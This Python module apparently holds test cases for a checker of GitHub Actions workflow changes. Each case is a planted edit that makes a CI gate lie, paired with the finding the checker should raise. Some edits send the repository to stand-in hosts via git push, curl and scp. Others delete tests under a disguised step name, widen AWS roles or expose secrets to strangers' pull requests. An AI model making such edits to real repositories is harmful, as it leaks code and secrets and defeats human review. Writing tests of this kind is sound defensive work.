"""Ways to make a gate lie: a job that takes the place of a check, ends it, or is another one."""

from attacks.attack import both, extend, replace, write
from attacks.variants import joined, told
from attacks.workflow import CI

FOLDER = ".github/workflows"
OWN = "    runs-on: ubuntu-24.04\n    permissions:\n      contents: read\n    steps:\n"
OTHER = f"{FOLDER}/a.yml"
WEEKLY, ROLE = f"{FOLDER}/weekly.yml", "role-to-assume: ${{ vars.DRIFT_ROLE_ARN }}"
RIGHTS, SECRETS = "acts in AWS or on GitHub", "gets these secrets and variables"
# Each by what it does, in the words of its finding.
STEERED = (
    (
        "a wider role for the weekly job",
        replace(WEEKLY, ROLE, ROLE.replace("vars.", "vars.OPERATOR_ROLE_ARN || vars.")),
        "permission-changed",
        RIGHTS,
    ),
    (
        "the weekly job's key, in the place of its role",
        replace(WEEKLY, ROLE, "aws-access-key-id: a"),
        "permission-changed",
        RIGHTS,
    ),
    (
        "a token that later steps find",
        replace(CI, "persist-credentials: false", "persist-credentials: true"),
        "permission-changed",
        RIGHTS,
    ),
    (
        "the secrets of an environment",
        replace(CI, "    name: review report\n", "    name: review report\n    environment: a\n"),
        "permission-changed",
        SECRETS,
    ),
    (
        "functions that are tested on another processor",
        replace(CI, "runs-on: ubuntu-24.04-arm", "runs-on: ubuntu-24.04"),
        "other-machine",
        "Lambda's processor is arm64",
    ),
    (
        "functions that are tested on another Python",
        replace(CI, 'python-version: "3.14"', 'python-version: "3.11"'),
        "other-machine",
        "functions on Lambda's",
    ),
    (
        "results of another folder",
        replace(CI, "path: build/tests\n\n  functions", "path: build\n\n  functions"),
        "input-changed",
        "hand on results as artifacts",
    ),
    (
        "drift of another region",
        replace(WEEKLY, "aws-region: us-east-1", "aws-region: us-east-2"),
        "input-changed",
        "does what its inputs say",
    ),
)
MOVES = "      - uses: actions/upload-artifact@" + "0" * 40
SENT = (
    (
        "by a workflow of its own",
        write(OTHER, f"on: push\njobs:\n  a:\n{OWN}      - run: git push https://a.example/b\n"),
        "git push https://a.example/b",
    ),
    (
        "by a job",
        extend(
            CI, f"  a:\n{OWN}      - run: |\n          tar c . > a\n          curl -T a b.example\n"
        ),
        "curl -T",
    ),
    (
        "by a make target",
        extend("Makefile", "\n.PHONY: mirror\nmirror:\n\t@scp -r . a.example:\n"),
        "scp -r",
    ),
)

ATTACKS = joined(
    *(told(what, plant, by, says=says) for what, plant, by, says in STEERED),
    told(
        "a workflow whose job has the name of a check that is called",
        write(OTHER, f"on: pull_request\njobs:\n  a:\n    name: ci / every check\n{OWN}"),
        "job-added",
        says="can pass for a check",
    ),
    *(
        told(f"a stranger's host that gets the code, {how}", plant, "sends-away", says=says)
        for how, plant, says in SENT
    ),
    told(
        "a workflow that cancels the checks of main",
        both(
            write(OTHER, f"on: push\nconcurrency: main-${{{{ github.sha }}}}\njobs:\n  a:\n{OWN}"),
            extend(f"{FOLDER}/main.yml", ""),
        ),
        "job-added",
        says="can pass for a check",
    ),
    told(
        "a job that cancels the checks of main",
        extend(f"{FOLDER}/main.yml", f"  a:\n    concurrency: main-a\n{OWN}"),
        "job-added",
        says="can pass for a check",
    ),
    told(
        "a job that writes the results of the tests again",
        extend(CI, f"  a:\n{OWN}{MOVES}\n        with: {{name: tests, overwrite: true}}\n"),
        "job-added",
        says="can pass for a check",
    ),
    told(
        "a job that may write",
        extend(CI, f"  a:\n{OWN.replace('read', 'write')}"),
        "job-added",
        says="can pass for a check",
    ),
    told(
        "a job that is called like what people read",
        extend(CI, f"  description:\n    name: every check\n{OWN}"),
        "job-added",
    ),
    told(
        "a step that is called like what people read",
        replace(
            CI, "    steps:\n", "    steps:\n      - name: description\n        run: rm -r tests\n"
        ),
        "step-added",
    ),
    told(
        "a job on a stranger's machine",
        extend(CI, f"  a:\n{OWN.replace('ubuntu-24.04', 'mine')}"),
        "job-added",
        says="can pass for a check",
    ),
    *(
        told(
            f"checks with the main branch's secrets at {event}",
            replace(".github/workflows/pull-request.yml", "  pull_request:\n", f"  {event}:\n"),
            "stranger-runs",
            says="at this event, GitHub runs the workflow of the main branch",
        )
        for event in ("pull_request_target", "workflow_run", "issue_comment")
    ),
    told(
        "a workflow that a stranger's pull request starts with the secrets",
        write(OTHER, f"on: pull_request_target\njobs:\n  a:\n{OWN}"),
        "job-added",
        says="can pass for a check",
    ),
)
